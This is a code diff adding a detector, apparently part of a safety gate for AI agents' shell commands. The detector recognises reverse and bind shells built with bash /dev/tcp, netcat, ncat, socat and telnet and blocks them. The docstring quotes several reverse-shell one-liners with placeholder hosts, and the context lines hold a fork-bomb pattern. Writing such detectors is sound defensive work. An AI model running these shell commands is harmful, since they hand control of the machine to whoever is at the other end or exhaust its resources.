@@ -214,3 +214,84 @@ def fork_bomb_text(cmd: Cmd, where: Where) -> list[Hit]:
     if ":(){:|:&};:" in squeezed or "(){:|:&}" in squeezed:
         return [Hit.destructive("GATE-FORK-BOMB", P_BLOCK, cmd, "This is a fork bomb.")]
     return []
+
+
+# Clients that carry a byte stream to and from another machine.
+_NET_PIPES = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl"})
+_SOCKET_PATHS = ("/dev/tcp/", "/dev/udp/")
+_SOCAT_NET = (
+    "tcp", "tcp4", "tcp6", "tcp-l", "tcp-listen", "udp", "udp4", "udp6", "udp-l",
+    "udp-listen", "openssl", "ssl", "openssl-listen", "sctp", "sctp-listen",
+)  # fmt: skip
+
+
+def remote_shell(cmd: Cmd, where: Where) -> list[Hit]:
+    """A shell wired to a network socket, a reverse or a bind shell: ``bash -i >&
+    /dev/tcp/H/P 0>&1``, ``nc -e /bin/sh H P``, ``ncat -l --sh-exec bash``, ``socat
+    exec:'bash -li',pty tcp:H:P``, and the pipe forms (``cat f | sh -i 2>&1 | nc H P >
+    f``, ``telnet H P | sh | telnet H P2``): whoever is at the other end runs commands
+    here."""
+    from agentreflex.gate.shell.walker import SHELLS
+
+    name, args = cmd.name, cmd.args
+    wired = False
+    if name in SHELLS:
+        wired = any(t.startswith(_SOCKET_PATHS) for _, t in cmd.redirects) or (
+            cmd.stdin_from is not None and cmd.stdin_from.name in _NET_PIPES and _reads_stdin(cmd)
+        )
+    elif name in ("nc", "ncat", "netcat"):
+        wired = any(
+            a in ("--exec", "--sh-exec", "--lua-exec")
+            or a.startswith(("--exec=", "--sh-exec=", "--lua-exec="))
+            or (_short_exec(a) and _names_program(args[k + 1] if k + 1 < len(args) else ""))
+            for k, a in enumerate(args)
+        )
+    elif name == "socat":
+        low = [a.lower() for a in args]
+        wired = any(a.startswith(("exec:", "system:")) for a in low) and any(
+            a.split(":", 1)[0].split(",", 1)[0] in _SOCAT_NET for a in low if ":" in a
+        )
+    if not wired and name in _NET_PIPES:
+        fed = cmd.stdin_from
+        wired = fed is not None and fed.name in SHELLS and _reads_stdin(fed)
+    if not wired:
+        return []
+    return [Hit.destructive("GATE-REMOTE-SHELL", P_BLOCK, cmd, REMOTE_SHELL)]
+
+
+REMOTE_SHELL = (
+    "This wires a shell to a network connection (a reverse or bind shell): whoever is at "
+    "the other end can run any command on this machine as the user, read every credential "
+    "and delete anything. Never open a shell to the network; if the user needs remote "
+    "access, they set up ssh themselves."
+)
+
+
+def _short_exec(word: str) -> bool:
+    """``-e``/``-c`` last in a cluster (``-lvpe``): netcat-traditional's, busybox's and
+    ncat's program to run (OpenBSD's nc spells TLS options with the same letters, so
+    the value decides: :func:`_names_program`)."""
+    return word[:1] == "-" and word[1:2] != "-" and len(word) > 1 and word[-1] in "ec"
+
+
+def _names_program(value: str) -> bool:
+    """A value that names a program to run: a shell or interpreter, a path, a command line."""
+    from agentreflex.gate.shell.walker import SHELLS
+
+    base = value.rsplit("/", 1)[-1].split(" ", 1)[0].lower()
+    return (
+        "/" in value
+        or " " in value.strip()
+        or base in SHELLS
+        or base.startswith(("python", "perl", "ruby", "php", "node", "cmd", "powershell", "pwsh"))
+    )
+
+
+def _reads_stdin(cmd: Cmd) -> bool:
+    """A shell that takes its commands from its input (no -c, no script operand)."""
+    for a in cmd.args:
+        if a == "--" or not a.startswith(("-", "+")):
+            return False
+        if not a.startswith("--") and "c" in a[1:]:
+            return False
+    return True
